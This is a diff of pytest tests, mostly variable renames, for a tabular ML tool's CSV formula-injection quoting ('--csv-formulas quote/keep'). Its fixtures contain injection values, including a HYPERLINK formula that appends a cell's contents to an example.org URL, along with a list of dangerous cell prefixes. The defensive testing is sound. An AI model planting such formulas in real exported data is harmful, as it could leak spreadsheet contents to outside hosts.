@@ -106,18 +106,21 @@ def test_files_read_back_as_they_were(tmp_path, text, mode):
         text_of, counted = csv_text(frame)
     assert counted == count
     assert text_of.encode() == path.read_bytes()
-    found = cells(path)
-    assert [len(line) for line in found] == [3, 3, 3]
+    file_cells = cells(path)
+    assert [len(line) for line in file_cells] == [3, 3, 3]
     if mode == "keep":
         assert count == 0
-        assert [found[0][1], found[1][1]] == [text + "name", text]
+        assert [file_cells[0][1], file_cells[1][1]] == [text + "name", text]
         if text in QUOTES:
             return  # nothing in the file says that it was written so, and a quote of ours is taken off
     else:
         assert count == (quoted(text) != text) + (
             quoted(text + "name") != text + "name"
         )
-        assert [found[0][1], found[1][1]] == [quoted(text + "name"), quoted(text)]
+        assert [file_cells[0][1], file_cells[1][1]] == [
+            quoted(text + "name"),
+            quoted(text),
+        ]
     again = read_csv(
         path, dtype={1: str}, keep_default_na=False, na_values={"value": [""]}
     )
@@ -189,32 +192,30 @@ def test_modes_are_of_the_body_alone(tmp_path):
 
 # ---- commands --------------------------------------------------------------------------------------------------------
 
-ID, FEATURE, LEVEL, CLASS = (
-    "@id",
-    "=1+1",
-    '=HYPERLINK("http://example.org/?" & A1, "see")',
-    "-no",
-)
+ID = "@id"
+FEATURE = "=1+1"
+LEVEL = '=HYPERLINK("http://example.org/?" & A1, "see")'
+CLASS = "-no"
 
 
 @pytest.fixture(scope="module", params=["quote", "keep"])
 def commanded(request, tmp_path_factory):
     """The mode, and a folder with what run, predict and explain wrote of a table full of formulas."""
-    place = tmp_path_factory.mktemp(request.param)
+    base_folder = tmp_path_factory.mktemp(request.param)
     draw = np.random.default_rng(0)
     table = pd.DataFrame(
         {FEATURE: draw.normal(size=80), "b": draw.choice([LEVEL, "y"], 80)}
     )
     table["outcome"] = np.where(table[FEATURE] > 0, "=yes", CLASS)
     table[ID] = [f"+case {number}" for number in range(80)]
-    table.to_csv(place / "table.csv", index=False)
+    table.to_csv(base_folder / "table.csv", index=False)
     preset = {
         "base": "fast",
         "branches": ["tabular"],
         "max_epochs": 1,
         "network": {"dense_units": [4]},
     }
-    (place / "preset.json").write_text(json.dumps(preset))
+    (base_folder / "preset.json").write_text(json.dumps(preset))
     mode = ("--csv-formulas", request.param)
     words = (
         "--target",
@@ -222,15 +223,29 @@ def commanded(request, tmp_path_factory):
         "--id",
         ID,
         "--preset",
-        place / "preset.json",
+        base_folder / "preset.json",
         "--out",
-        place / "run",
+        base_folder / "run",
     )
-    call("run", place / "table.csv", *words)
-    call("predict", place / "run", place / "table.csv", "--out", place / "p.csv", *mode)
-    chosen = ("--method", "integrated_gradients", "--row", 0)
-    call("explain", place / "run", place / "table.csv", "--out", place / "e", *chosen)
-    return request.param, place
+    call("run", base_folder / "table.csv", *words)
+    call(
+        "predict",
+        base_folder / "run",
+        base_folder / "table.csv",
+        "--out",
+        base_folder / "p.csv",
+        *mode,
+    )
+    explain_options = ("--method", "integrated_gradients", "--row", 0)
+    call(
+        "explain",
+        base_folder / "run",
+        base_folder / "table.csv",
+        "--out",
+        base_folder / "e",
+        *explain_options,
+    )
+    return request.param, base_folder
 
 
 #: Files of each command, with columns that hold formulas, and whether they stand in the head as well.
@@ -245,10 +260,10 @@ FILES = {
 
 @pytest.mark.parametrize("name", FILES)
 def test_files_of_commands_are_quoted_or_kept(commanded, name):
-    mode, place = commanded
+    mode, base_folder = commanded
     dangerous = tuple("=+-@\t\r")
     columns, in_head = FILES[name]
-    head, *lines = cells(place / name)
+    head, *lines = cells(base_folder / name)
     shown = [text for line in (head, *lines) for text in line]
     mode = mode if name == "p.csv" else "quote"  # predict alone takes it
     bare = [
@@ -258,16 +273,18 @@ def test_files_of_commands_are_quoted_or_kept(commanded, name):
     quotes = [text for text in shown if text.startswith("'")]
     assert bool(quotes) == (mode == "quote")
     assert any(text.lstrip("'") == ID for text in head) == in_head
-    found = read_csv(place / name, keep_default_na=False)
-    assert columns <= set(found.columns), "as permgrad reads it, names are as they were"
+    file_table = read_csv(base_folder / name, keep_default_na=False)
+    assert columns <= set(file_table.columns), (
+        "as permgrad reads it, names are as they were"
+    )
     for column in columns:
-        texts = set(found[column].map(str))
+        texts = set(file_table[column].map(str))
         assert any(text.startswith(dangerous) for text in texts)
         assert texts <= {FEATURE, "b", "=yes", CLASS, "all"} | {
             f"+case {number}" for number in range(80)
         }
     if name == "e/importance.csv":
-        assert (found["importance"] < 0).any(), (
+        assert (file_table["importance"] < 0).any(), (
             "attributions are numbers, the negative ones too"
         )
 
@@ -281,17 +298,17 @@ def is_number(text):
 
 def test_runs_are_read_back_by_their_report(commanded):
     """Classes are looked for in what the run wrote: a quote of ours must not hide them."""
-    _, place = commanded
-    page = place / "run" / "report.html"
+    _, base_folder = commanded
+    page = base_folder / "run" / "report.html"
     page.unlink()
-    call("report", place / "run")
+    call("report", base_folder / "run")
     assert all(
         name in page.read_text(encoding="utf-8") for name in (FEATURE, CLASS, "=yes")
     )
-    assert "Test rows" in call("run", *words_of(place))
+    assert "Test rows" in call("run", *words_of(base_folder))
 
 
-def words_of(place):
+def words_of(base_folder):
     """Return the words of the same run again; it is finished, and only told."""
     words = (
         "--target",
@@ -299,42 +316,42 @@ def words_of(place):
         "--id",
         ID,
         "--preset",
-        place / "preset.json",
+        base_folder / "preset.json",
         "--out",
-        place / "run",
+        base_folder / "run",
     )
-    return (place / "table.csv", *words)
+    return (base_folder / "table.csv", *words)
 
 
 @pytest.mark.filterwarnings("ignore::permgrad.PermgradWarning")
 def test_predictions_on_stdout_are_the_file(commanded):
-    mode, place = commanded
+    mode, base_folder = commanded
     text = call(
         "predict",
-        place / "run",
-        place / "table.csv",
+        base_folder / "run",
+        base_folder / "table.csv",
         "--out",
         "-",
         "--csv-formulas",
         mode,
     )
-    with (place / "p.csv").open(encoding="utf-8", newline="") as file:
+    with (base_folder / "p.csv").open(encoding="utf-8", newline="") as file:
         assert list(csv.reader(io.StringIO(text.rstrip("\n")))) == list(
             csv.reader(file)
         )
 
 
 def test_other_modes_are_refused_before_the_work(commanded):
-    _, place = commanded
-    said = call(
+    _, base_folder = commanded
+    message = call(
         "predict",
-        place / "run",
-        place / "table.csv",
+        base_folder / "run",
+        base_folder / "table.csv",
         "--out",
-        place / "q.csv",
+        base_folder / "q.csv",
         "--csv-formulas",
         "x",
         code=2,
     )
-    assert "csv-formulas must be one of 'quote', 'keep', got" in said
-    assert not (place / "q.csv").exists()
+    assert "csv-formulas must be one of 'quote', 'keep', got" in message
+    assert not (base_folder / "q.csv").exists()
